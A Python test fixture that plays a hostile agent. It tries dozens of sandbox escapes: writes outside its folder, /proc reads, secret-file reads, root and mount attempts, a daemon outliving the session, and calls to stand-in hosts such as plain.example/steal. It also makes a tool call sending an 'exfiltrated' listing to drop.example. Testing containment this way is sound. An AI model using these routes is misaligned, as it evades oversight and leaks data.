"""For tests: an agent in Python that tries every way out it can think of, and tells in its proposal what each came to."""

import json
import os
import sys

ROUTES = {}


def route(work):
    ROUTES[work.__name__] = work
    return work


def within(at, name):
    return os.path.join(at["folder"], name)


@route
def file_open(at):
    open(within(at, "open.txt"), "w").write("x")


@route
def file_append(at):
    open(within(at, "kept.txt"), "a").write("x")


@route
def file_os_open(at):
    os.write(os.open(within(at, "os-open.txt"), os.O_CREAT | os.O_WRONLY), b"x")


@route
def file_own_code(at):
    open(__file__, "a").write("# changed")


@route
def file_through_link(at):
    link = os.path.join(os.environ["TMPDIR"], "link")
    os.symlink(at["folder"], link)
    open(os.path.join(link, "linked.txt"), "w").write("x")


@route
def file_shared_memory(at):
    open("/dev/shm/earnest-hostile", "w").write("x")


@route
def file_mkdir(at):
    os.mkdir(within(at, "made"))


@route
def file_remove(at):
    os.remove(within(at, "kept.txt"))


@route
def file_rmdir(at):
    os.rmdir(at["folder"])


@route
def file_rename(at):
    os.rename(within(at, "kept.txt"), within(at, "renamed.txt"))


@route
def file_link(at):
    os.link(within(at, "kept.txt"), within(at, "hard.txt"))


@route
def file_symlink(at):
    os.symlink(within(at, "kept.txt"), "/agent/soft.txt")


@route
def file_chmod(at):
    os.chmod(within(at, "kept.txt"), 0o777)


@route
def file_chown(at):
    os.chown(within(at, "kept.txt"), 0, 0)


@route
def file_truncate(at):
    os.truncate(within(at, "kept.txt"), 0)


@route
def file_utime(at):
    os.utime(within(at, "kept.txt"), (0, 0))


@route
def file_setxattr(at):
    os.setxattr(within(at, "kept.txt"), "user.x", b"x")


@route
def file_sqlite(at):
    import sqlite3

    sqlite3.connect(within(at, "data.db")).execute("create table t (x)")


@route
def file_sqlite_attach(at):
    import sqlite3

    sqlite3.connect(":memory:").execute("attach '%s' as other" % within(at, "attached.db")).execute("create table other.t (x)")


@route
def file_dbm(at):
    import dbm.dumb

    dbm.dumb.open(within(at, "dumb"), "c")["x"] = "y"


@route
def proc_memory(at):
    open("/proc/%d/mem" % at["pid"], "wb").write(b"x")


@route
def proc_sysctl(at):
    open("/proc/sys/kernel/hostname", "w").write("x")


@route
def proc_environ(at):
    return open("/proc/%d/environ" % at["pid"]).read()


@route
def variable(at):
    return os.environ[at["variable"]]


@route
def home_read(at):
    return os.listdir("/root") + os.listdir("/home")


@route
def secret_read(at):
    return open(within(at, "secret.txt")).read()


@route
def network_tcp(at):
    import socket

    socket.create_connection(("127.0.0.1", at["tcp"]), 2).send(b"x")


@route
def network_tcp_elsewhere(at):
    import socket

    socket.create_connection(("192.0.2.1", 80), 2)


@route
def network_udp(at):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", at["udp"]))


@route
def network_udp_message(at):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("127.0.0.1", at["udp"] + 0))


@route
def network_listen(at):
    import socket

    socket.socket().bind(("0.0.0.0", 0))


@route
def network_unix(at):
    import socket

    socket.socket(socket.AF_UNIX).connect(within(at, "socket"))


@route
def network_abstract(at):
    import socket

    socket.socket(socket.AF_UNIX).connect("\0" + at["abstract"])


@route
def network_asyncio(at):
    import asyncio

    asyncio.run(asyncio.open_connection("127.0.0.1", at["tcp"]))


@route
def network_smtp(at):
    import smtplib

    smtplib.SMTP("127.0.0.1", at["tcp"], timeout=2)


@route
def network_raw(at):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x", ("192.0.2.2", 0))


@route
def dns_lookup(at):
    import socket

    socket.getaddrinfo("lookup.example", 80)


@route
def dns_by_name(at):
    import socket

    socket.gethostbyname("name.example")


@route
def http_plain(at):
    import urllib.request

    urllib.request.urlopen("http://plain.example/steal?x=1", timeout=2)


@route
def http_tunnel(at):
    import urllib.request

    urllib.request.urlopen("https://tunnel.example/steal", timeout=2)


@route
def http_direct(at):
    import urllib.request

    urllib.request.urlopen("http://127.0.0.1:%d/" % at["tcp"], timeout=2)


@route
def http_upgrade(at):
    import http.client

    door = http.client.HTTPConnection("127.0.0.1", 8123, timeout=2)
    door.request("GET", "/socket", headers={"Connection": "Upgrade", "Upgrade": "websocket"})
    door.getresponse()


def model(body, path="/v1/chat/completions"):
    import urllib.request

    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"].replace("/v1", "") + path,
        json.dumps(body).encode(),
        {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"},
    )
    return urllib.request.urlopen(request, timeout=2).read().decode()


@route
def model_web_search(at):
    return model({"model": "m", "messages": [], "tools": [{"type": "web_search"}]})


@route
def model_mcp(at):
    return model({"model": "m", "messages": [], "tools": [{"type": "mcp", "server_url": "https://act.example"}]})


@route
def model_files(at):
    return model({"purpose": "x"}, "/v1/files")


@route
def process_popen(at):
    import subprocess

    subprocess.run(["/bin/sh", "-c", "echo x > %s" % within(at, "popen.txt")], check=True)


@route
def process_system(at):
    if os.system("echo x > %s" % within(at, "system.txt")) != 0:
        raise OSError("the shell failed")


@route
def process_spawn(at):
    pid = os.posix_spawn("/bin/sh", ["sh", "-c", "echo x > %s" % within(at, "spawn.txt")], {})
    if os.waitpid(pid, 0)[1] != 0:
        raise OSError("the shell failed")


@route
def process_fork(at):
    pid = os.fork()
    if pid == 0:
        try:
            open(within(at, "forked.txt"), "w").write("x")
        finally:
            os._exit(1)
    os.waitpid(pid, 0)


@route
def process_daemon(at):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time

            time.sleep(3600)
        os._exit(0)


@route
def process_limits(at):
    import resource

    resource.prlimit(at["pid"], resource.RLIMIT_NOFILE, (1, 1))


@route
def signal_kill(at):
    import signal

    os.kill(at["pid"], signal.SIGUSR2)


@route
def signal_group(at):
    import signal

    os.killpg(at["pid"], signal.SIGUSR2)


@route
def native_libc(at):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.creat(within(at, "native.txt").encode(), 0o644) < 0:
        raise OSError(ctypes.get_errno(), "creat")


@route
def native_named(at):
    import ctypes

    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    if libc.mount(b"none", b"/agent", b"tmpfs", 0, None) < 0:
        raise OSError(ctypes.get_errno(), "mount")


@route
def native_namespace(at):
    import ctypes

    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    if libc.unshare(0x10000000) < 0:
        raise OSError(ctypes.get_errno(), "unshare")


@route
def system_log(at):
    import syslog

    syslog.syslog("earnest hostile")


@route
def become_root(at):
    os.setuid(0)


def tell(message):
    print(json.dumps(message))


def attempt(at):
    outcomes = {}
    for name, work in ROUTES.items():
        try:
            outcomes[name] = "done: %s" % json.dumps(work(at))[:2000]
        except BaseException as error:
            outcomes[name] = "%s: %s" % (type(error).__name__, error)
    return outcomes


for line in sys.stdin:
    case = json.loads(line)["case"]
    at = case["input"]
    params = {"hello": case["id"]} if at is None else attempt(at)
    if at is not None:
        tell({"kind": "call", "tool": "lookup", "args": {"exfiltrated": os.listdir("/"), "to": "https://drop.example"}})
        params["tool_argument"] = sys.stdin.readline().strip()
        os.write(3, b"not what belongs here\n")
        os.close(3)
    tell({"kind": "proposal", "case": case["id"], "proposal": {"kind": "act", "actions": [{"type": "report", "params": params}]}})
